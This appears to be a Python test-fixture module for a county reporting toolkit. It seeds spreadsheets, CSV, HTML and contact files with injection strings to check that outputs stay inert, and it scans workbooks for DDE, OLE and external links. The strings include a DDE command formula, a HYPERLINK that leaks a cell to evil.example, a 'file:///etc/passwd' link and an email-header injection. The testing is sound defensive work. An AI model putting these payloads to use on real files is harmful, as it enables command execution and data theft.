"""What could somebody type to make an output do more than show it? A county full of it, and its harmless twin."""

import re
import shutil
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import xlsxwriter
from lxml import etree

from tests.drawn import HEADINGS
from tests.trips import trip, visit, write_register_of
from toolkit.files import shipped
from toolkit.model.cells import CellRef
from toolkit.model.period import ReportingPeriod
from toolkit.model.trips import Expense, Participant, TeamMonth, Trip
from toolkit.workflow.steps.workspace import Workspace, create_workspace, open_workspace

JUNE, AS_OF = ReportingPeriod(2022, 6), date(2022, 7, 6)
TEXTS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＝1+1",
    "{=1+1}",
    "http://evil.example/x",
    "file:///etc/passwd",
    r"\\server\share\a.xlsx",
    "mailto:x@evil.example",
    "internal:Sheet1!A1",
    "external:a.xlsx",
    "<b>粗</b>&amp;",
    "]]><c/><!--",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{_{ 7 }_}",
    "乙\nBcc: stranger@evil.example",
    "响\x07铃",
    "_x0041_甲",
    "&L&9脚",
    "'=1+1",
    '"=1+1"',
)
# File names as a unit may give them; a slash is all that a name cannot hold here.
NAMES = (
    "=1+1 江口乡6月.xlsx",
    "mailto:x@evil.example 中渡镇6月.csv",
    "50%#1 '寨沙镇' 6月.xls",
    "<b>&amp; 平山镇6月.html",
)


def harmless(number: int) -> str:
    """Return what the twin says in place of a text."""
    return f"某某{'甲乙丙丁戊己庚辛壬癸'[number % 10]}{'子丑寅卯'[number // 10]}"


def county(root: Path, texts: Sequence[str], names: Sequence[str]) -> Workspace:
    """Make a workspace whose units, register and contacts say ``texts`` wherever they may."""
    workspace = create_workspace(root / "鹿寨2022", "luzhai-2022")
    folder = workspace.root / "报送" / "2022-06"
    folder.mkdir(parents=True)
    shutil.copytree(
        shipped.folder("sample_workbooks") / "luzhai_2022" / "目标", workspace.root / "目标", dirs_exist_ok=True
    )
    rows = [_row(number, text) for number, text in enumerate(texts, 1)]
    _excel(folder / names[0], "江口乡", [*rows, _row(99, texts[0], amount=texts[1])])
    lines = [
        ",".join(f'"{str(value).replace(chr(34), chr(34) * 2)}"' for value in line) for line in [HEADINGS, *rows[:12]]
    ]
    (folder / names[1]).write_text("\r\n".join(["填报单位：中渡镇", *lines]), "utf-8-sig", newline="")
    _excel(folder / names[2], "寨沙镇", rows[12:])
    cells = "".join(
        f"<tr>{''.join(f'<td>{_escaped(value)}</td>' for value in line)}</tr>" for line in [HEADINGS, *rows[:3]]
    )
    (folder / names[3]).write_text(f"<html><meta charset=utf-8>填报单位：平山镇<table>{cells}</table></html>", "utf-8")
    (workspace.root / "通讯录.csv").write_text(
        "单位,联系人,邮箱\n"
        + "".join(
            f'{unit},"{texts[14]}",u{n}@luzhai.example\n'
            for n, unit in enumerate(("江口乡", "中渡镇", "寨沙镇", "县林业局"))
        ),
        "utf-8",
    )
    write_register_of(trips(texts), _made(workspace.root / "出行" / "出行台账.xlsx"), [_month(texts)])
    return open_workspace(workspace.root)


def _made(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def _escaped(value: object) -> str:
    return str(value).replace("&", "&amp;").replace("<", "&lt;").replace("\x07", "")


def _row(number: int, text: str, amount: str = "") -> list[object]:
    # 行业, 项目名称, 项目方, 投资总额, 投资来源, 负责人, 电话, 入驻时间, 进展
    return [number, text, text, text, amount or number / 100, "广东佛山", text, text, "2022年5月", text]


def _excel(path: Path, unit: str, rows: Sequence[Sequence[object]]) -> None:
    """Write what Excel would: a text stays a text, whatever it looks like (an .xls that is an .xlsx inside, too)."""
    safe = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
    with xlsxwriter.Workbook(str(path), safe) as book:
        sheet = book.add_worksheet("{{ 表 }}&<b>" if "=" in path.name else "6月")
        sheet.write_string(0, 0, f"填报单位：{unit}")
        for line, values in enumerate([HEADINGS, *rows], 1):
            for column, value in enumerate(values):
                (sheet.write_string if isinstance(value, str) else sheet.write_number)(line, column, value)


def trips(texts: Sequence[str]) -> tuple[Trip, ...]:
    """Return two trips whose every free text is one of ``texts``."""
    made = []
    # openpyxl writes the register and leaves to us how the file format writes what XML cannot hold.
    texts = [text.replace("_x0041_", "_x005F_x0041_").replace("\x07", "_x0007_") for text in texts]
    for number, start in enumerate((date(2022, 6, 7), date(2022, 6, 14))):
        words = iter(texts[number * 12 : number * 12 + 12])
        stop = visit(
            next(words),
            address=next(words),
            contact=next(words),
            business=next(words),
            intent=next(words),
            opinion=next(words),
        )
        leader = Participant(next(words), "江口乡", next(words), "带队领导", "科级")
        one = trip(
            f"{number}{next(words)}", "江口乡", start, date(2022, 6, start.day + 3), purpose=next(words),
            destination=next(words), transport=next(words), visits=(stop,), participants=(leader,),
            expenses=(Expense("住宿费", 1000, 900, 2, texts[number]),),
        )  # fmt: skip
        made.append(one)
    return tuple(made)


def _month(texts: Sequence[str]) -> TeamMonth:
    return TeamMonth(CellRef("出行台账.xlsx", "月报", 2), "江口乡", JUNE, budget_on=date(2022, 6, 5))


# What a generic reader finds in an output


@dataclass(frozen=True)
class Seen:
    """A workbook as any reader sees it: formulas by place, every text, links by (place, target)."""

    formulas: frozenset[tuple[str, str, str]]
    texts: frozenset[str]
    outside: tuple[str, ...]
    active: tuple[str, ...]


def shown(text: str) -> str:
    """Return a stored text as Excel shows it: ``_x0007_`` is how the file format writes a control character."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text)


def seen(path: Path) -> Seen:
    """Read a workbook: its formulas by openpyxl, its texts from the package as they are stored."""
    formulas = set()
    for sheet in openpyxl.load_workbook(path, keep_vba=path.suffix == ".xlsm"):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.add((sheet.title, cell.coordinate, str(getattr(cell.value, "text", cell.value))))
    return Seen(frozenset(formulas), frozenset(texts_in(path)), tuple(outside(path)), tuple(active_parts(path)))


def texts_in(path: Path) -> Iterator[str]:
    """Yield the text of every shared string, inline string and comment."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if re.fullmatch(r"xl/(sharedStrings|comments\d*|worksheets/sheet\d+|.*comments?\d+)\.xml", name):
                for element in etree.fromstring(package.read(name)).iter():
                    if element.tag.rpartition("}")[2] in ("si", "is", "text"):
                        yield shown("".join(t.text or "" for t in element.iter() if t.tag.endswith("}t")))


def outside(path: Path) -> Iterator[str]:
    """Yield the targets of every relationship of a package that leads out of it."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                for link in etree.fromstring(package.read(name)):
                    if link.get("TargetMode") == "External":
                        kind = str(link.get("Type")).rpartition("/")[2]
                        # A backslash parts folders as Excel writes links; one in a name is spelled out.
                        way = unquote(str(link.get("Target")).replace("\\", "/"))
                        yield f"{kind} {way}"


def active_parts(path: Path) -> Iterator[str]:
    """Yield what a package may do beside showing cells: links to other books, DDE, objects, queries."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if re.search(r"externalLink|connections|oleObject|embeddings|activeX|queryTable|ctrlProp", name):
                yield name
            if name.endswith(".xml") and re.search(
                rb"ddeLink|<oleObject|instrText[^>]*>[^<]*(DDE|INCLUDE)", package.read(name)
            ):
                yield name
